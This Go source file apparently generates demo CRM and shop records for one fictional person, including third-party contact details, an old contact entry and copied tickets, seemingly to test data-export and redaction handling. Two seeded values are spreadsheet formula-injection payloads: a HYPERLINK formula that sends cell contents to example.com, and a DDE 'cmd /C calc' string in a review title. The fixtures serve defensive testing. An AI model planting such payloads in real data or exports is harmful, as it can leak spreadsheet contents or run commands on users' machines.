package sample

// oldContactID is the demo person's earlier contact, which has another address.
const oldContactID = 900_001

// demoContact adds what the demo shows to the demo person's rows: third parties to redact, copies to others, an old record.
func (g *generator) demoContact(t crmTables) {
	p := g.people[0]
	old := p
	old.id, old.email = oldContactID, DemoOldEmail
	t.contacts.add(old.id, nil, old.email, nil, old.first, "Brandt-Huber", nil, old.lang, []string{"migrated"}, nil, epoch.AddDate(-9, 0, 0))
	t.addresses.add(g.next("address"), old.id, "home", "Alte Gasse 3", "60313", "Frankfurt am Main", "DE")
	g.ticket(t, p, "Zelt Fjell 2: Gestänge gebrochen", []string{DemoEmail, ThirdPartyEmail})
	g.ticket(t, p, "=HYPERLINK(\"http://example.com/?x=\"&A1,\"Rechnung\")", nil)
	id := g.ticket(t, old, "Adresse geändert", nil)
	t.messages.add(g.next("message"), id, p.full(), epoch.AddDate(0, -2, 0),
		"Bitte liefern Sie ausnahmsweise an meinen Nachbarn "+ThirdParty+" ("+ThirdPartyEmail+", +48 600 000 111), er ist tagsüber zu Hause.", nil)
	for range 6 {
		t.activities.add(g.next("activity"), p.id, 1+g.IntN(staffCount), "call", g.ago(600), 5+g.IntN(20), pick(g.Rand, notes()))
	}
	t.consents.add(p.id, "sms", false, epoch.AddDate(-1, 0, 0), map[string]any{"form": "shop-checkout", "ip": g.ip()})
	// Somebody else's ticket with the demo person in copy.
	if len(g.people) > 1 && g.people[1].inCRM {
		g.ticket(t, g.people[1], "Group order for the hut tour", []string{"group@example.org", "Amelie.Brandt@Example.com"})
	}
}

// demoCustomer adds orders, reviews and a guest account that still points at the old contact.
func (g *generator) demoCustomer(t shopTables) {
	p := g.people[0]
	id := customerID(p)
	for i := range 8 {
		var note any
		if i == 0 {
			note = "+49 bitte vorher anrufen"
		}
		g.order(t, id, note)
	}
	g.review(t, id, "Mit Nachbar getestet", "Mein Nachbar "+ThirdParty+" hat es auch gekauft und ist begeistert, fragen Sie ihn: "+ThirdPartyEmail)
	g.review(t, id, "@SUM(1+1)*cmd|' /C calc'!A0", "Sehr gut – 日本語 ✓ \"robust\"")
	const guest = 990_001
	t.customers.add(guest, "AMELIE.BRANDT@example.com", "A. Brandt", nil, oldContactID, epoch.AddDate(-8, 0, 0), false, nil, nil)
	for range 3 {
		g.event(t, p.email)
	}
}
